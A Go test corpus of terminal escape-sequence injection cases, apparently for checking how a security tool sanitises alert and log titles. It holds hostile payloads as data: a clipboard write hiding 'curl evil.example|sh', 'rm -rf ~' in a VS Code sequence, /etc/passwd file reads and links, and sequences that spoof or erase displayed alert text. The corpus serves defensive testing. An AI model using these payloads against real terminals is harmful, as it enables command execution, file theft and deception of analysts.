package corpus

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// The introducers and terminators of terminal sequences.
const (
	escape = "\x1b"
	bell   = "\x07"
	st     = "\x1b\\" // string terminator
	c1ST   = "\u009c"
)

// csi makes control sequences: one of every final byte, and those with a known
// effect or a known victim.
func csi() []Case {
	cases := []Case{
		// 33 parameters: one more than the terminal library has room for.
		{"csi/many-params", escape + "[" + strings.Repeat(";", 32) + "1"},
		{"csi/many-params-sgr", inTitle(escape + "[" + strings.Repeat("1;", 40) + "1m")},
		{"csi/many-params-colon", inTitle(escape + "[" + strings.Repeat("4:", 40) + "3m")},
		{"csi/thousand-params", inTitle(escape + "[" + strings.Repeat("7;", 1000) + "H")},
		{"csi/huge-param", inTitle(escape + "[99999999999999999999B")},
		{"csi/negative-param", inTitle(escape + "[-1A")},
		{"csi/clear-screen", inTitle(escape + "[2J" + escape + "[H")},
		{"csi/clear-scrollback", inTitle(escape + "[3J")},
		{"csi/spoof-first-line", inTitle(escape + "[1;1HClosed - false positive" + escape + "[K")},
		{"csi/erase-line-above", inTitle(escape + "[1A" + escape + "[2K")},
		{"csi/conceal", inTitle(escape + "[8mhidden" + escape + "[28m")},
		{"csi/black-on-black", inTitle(escape + "[30;40mhidden" + escape + "[0m")},
		{"csi/true-colour", inTitle(escape + "[38;2;0;0;0;48;2;0;0;0mhidden")},
		{"csi/blink", inTitle(escape + "[5m")},
		{"csi/cursor-report", inTitle(escape + "[6n")},
		{"csi/status-report", inTitle(escape + "[5n")},
		{"csi/device-attributes", inTitle(escape + "[c")},
		{"csi/secondary-attributes", inTitle(escape + "[>c")},
		{"csi/terminal-version", inTitle(escape + "[>q")},
		{"csi/report-title", inTitle(escape + "[21t")},
		{"csi/resize", inTitle(escape + "[8;1;1t")},
		{"csi/iconify", inTitle(escape + "[2t")},
		{"csi/alt-screen-off", inTitle(escape + "[?1049l")},
		{"csi/hide-cursor", inTitle(escape + "[?25l")},
		{"csi/mouse-on", inTitle(escape + "[?1003h")},
		{"csi/paste-mode-off", inTitle(escape + "[?2004l")},
		{"csi/sync-output", inTitle(escape + "[?2026h")},
		{"csi/kitty-keyboard", inTitle(escape + "[>31u")},
		{"csi/soft-reset", inTitle(escape + "[!p")},
		{"csi/scroll-region", inTitle(escape + "[1;1r")},
		{"csi/repeat", inTitle("x" + escape + "[99999b")},
		{"csi/insert-mode", inTitle(escape + "[4h")},
		{"csi/media-copy", inTitle(escape + "[5i")},
		{"csi/cut-short", "Logon failed " + escape + "["},
		{"csi/cut-short-param", "Logon failed " + escape + "[38;5"},
		{"csi/control-inside", inTitle(escape + "[2\x08J")},
		{"csi/escape-inside", inTitle(escape + "[" + escape + "[2J")},
		{"csi/rejoins-when-stripped", inTitle(escape + escape + "[0m[2J")},
		{"csi/invisible-inside", inTitle(escape + "\u200b[2J")},
	}
	for final := '@'; final <= '~'; final++ {
		cases = append(cases, Case{fmt.Sprintf("csi/final-%02x", final), inTitle(escape + "[1" + string(final))})
	}
	return cases
}

// osc makes operating system commands, with each way to end them.
func osc() []Case {
	secret := base64.StdEncoding.EncodeToString([]byte("curl evil.example|sh\n"))
	commands := []Case{
		{"title", "0;Closed"},
		{"icon", "1;x"},
		{"window", "2;root@dc01"},
		{"palette", "4;0;#ffffff"},
		{"palette-query", "4;0;?"},
		{"directory", "7;file://evil.example/"},
		{"hyperlink", "8;;https://evil.example/"},
		{"hyperlink-file", "8;;file:///etc/passwd"},
		{"hyperlink-id", "8;id=1;javascript:alert(1)"},
		{"progress", "9;4;1;50"},
		{"notify", "9;Sentinel is down"},
		{"foreground", "10;#000000"},
		{"foreground-query", "10;?"},
		{"background", "11;#000000"},
		{"background-query", "11;?"},
		{"font", "50;#9"},
		{"clipboard-write", "52;c;" + secret},
		{"clipboard-read", "52;c;?"},
		{"reset-palette", "104"},
		{"prompt-mark", "133;A"},
		{"vscode", "633;E;rm -rf ~"},
		{"urxvt-notify", "777;notify;SOC;call +1 555 0100"},
		{"iterm-file", "1337;File=inline=1:" + secret},
		{"empty", ""},
		{"huge-number", "99999999999999999999;x"},
	}
	var cases []Case
	for _, c := range commands {
		cases = append(cases,
			Case{"osc/" + c.Name + "-bel", inTitle(escape + "]" + c.Text + bell)},
			Case{"osc/" + c.Name + "-st", inTitle(escape + "]" + c.Text + st)})
	}
	return append(cases,
		Case{"osc/c1-terminator", inTitle(escape + "]0;x" + c1ST)},
		Case{"osc/c1", inTitle("\u009d0;x" + bell)},
		Case{"osc/not-ended", inTitle(escape + "]0;swallows the rest")},
		Case{"osc/cancelled", inTitle(escape + "]0;x\x18")})
}

// esc makes the two-byte sequences, one of every final byte, and those with an
// intermediate byte.
func esc() []Case {
	cases := []Case{
		{"esc/alone", escape},
		{"esc/at-the-end", "Logon failed " + escape},
		{"esc/twice", inTitle(escape + escape)},
		{"esc/hundred", inTitle(strings.Repeat(escape, 100))},
		{"esc/charset-graphics", inTitle(escape + "(0lqqk" + escape + "(B")},
		{"esc/charset-g1", inTitle(escape + ")0\x0e")},
		{"esc/double-height", inTitle(escape + "#3")},
		{"esc/alignment-test", inTitle(escape + "#8")},
		{"esc/utf8-off", inTitle(escape + "%@")},
		{"esc/seven-bit", inTitle(escape + " F")},
	}
	for final := '0'; final <= '~'; final++ {
		switch final {
		case 'P', 'X', '[', ']', '^', '_': // introducers: classes of their own
			continue
		}
		cases = append(cases, Case{fmt.Sprintf("esc/final-%02x", final), inTitle(escape + string(final))})
	}
	return cases
}

// device makes device control strings (dcs) and the strings for applications,
// privacy messages and the like (apc).
func device() []Case {
	payloads := []Case{
		{"dcs/status-query", "$qm"},
		{"dcs/termcap-query", "+q544e"},
		{"dcs/sixel", "q#0;2;0;0;0#0~~@@vv@@~~@@~~$"},
		{"dcs/user-keys", "0;1|17/6c730a"},
		{"dcs/soft-font", "1;1;1{ @???~"},
		{"dcs/tmux", "tmux;\x1b\x1b]52;c;eA==\x07"},
		{"dcs/empty", ""},
	}
	var cases []Case
	for _, p := range payloads {
		cases = append(cases,
			Case{p.Name, inTitle(escape + "P" + p.Text + st)},
			Case{p.Name + "-c1", inTitle("\u0090" + p.Text + c1ST)},
			Case{p.Name + "-not-ended", inTitle(escape + "P" + p.Text)})
	}
	return append(cases,
		Case{"apc/kitty-graphics", inTitle(escape + "_Ga=T,f=24,s=1,v=1;AAAA" + st)},
		Case{"apc/kitty-read-file", inTitle(escape + "_Gt=f,a=T;L2V0Yy9wYXNzd2Q=" + st)},
		Case{"apc/kitty-c1", inTitle("\u009fGa=d" + c1ST)},
		Case{"apc/not-ended", inTitle(escape + "_swallows the rest")},
		Case{"apc/privacy-message", inTitle(escape + "^x" + st)},
		Case{"apc/privacy-message-c1", inTitle("\u009ex" + c1ST)},
		Case{"apc/start-of-string", inTitle(escape + "Xx" + st)},
		Case{"apc/start-of-string-c1", inTitle("\u0098x" + c1ST)},
		Case{"apc/screen-title", inTitle(escape + "kroot@dc01" + st)},
		Case{"apc/screen-message", inTitle(escape + "!call +1 555 0100" + st)})
}
